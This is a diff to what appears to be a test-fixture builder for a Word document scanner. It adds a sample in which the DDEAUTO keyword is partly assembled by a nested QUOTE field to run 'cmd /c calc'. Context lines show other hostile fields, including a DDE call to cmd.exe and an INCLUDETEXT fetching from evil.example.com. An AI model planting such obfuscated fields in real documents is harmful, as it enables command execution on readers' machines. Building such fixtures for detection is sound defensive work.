@@ -16,7 +16,8 @@ that the tests know exactly what each input holds:
                       graphic frame and an external hyperlink on a shape
   fields.docx         Word fields that run or fetch something: fldSimple DDEAUTO, a
                       DDEAUTO split over three instrText runs, INCLUDEPICTURE of a
-                      URL, a DDE keyword built by a nested QUOTE field, an IF whose
+                      URL, a DDE keyword built (wholly, in part) by a nested QUOTE
+                      field, an IF whose
                       instruction holds an INCLUDETEXT, a LINK in a deleted revision
                       (delInstrText), an INCLUDETEXT in a text box, a stray
                       instrText, a DDE field in the header; harmless PAGE, fldSimple
@@ -280,6 +281,9 @@ FIELDS_BODY = "".join([
     # 4. the keyword made by a nested field: { {QUOTE 68 68 69} cmd }
     para(fld("begin"), fld("begin"), instr(" QUOTE 68 68 69 "), fld("separate"), run("DDE"), fld("end"),
          instr(" c:\\windows\\system32\\cmd.exe "), fld("separate"), run("組み立てた名前の表示"), fld("end")),
+    # ... or part of it: DD{QUOTE 69}AUTO
+    para(fld("begin"), instr(" DD"), fld("begin"), instr("QUOTE 69"), fld("separate"), run("E"), fld("end"),
+         instr("AUTO cmd /c calc"), fld("separate"), run("途中を組み立てた名前の表示"), fld("end")),
     # 5. a harmless IF whose instruction holds an INCLUDETEXT
     para(fld("begin"), instr(' IF 1 = 1 "'), fld("begin"),
          instr(' INCLUDETEXT "\\\\evil.example.com\\share\\a.docx" '), fld("separate"), run("取込み"),
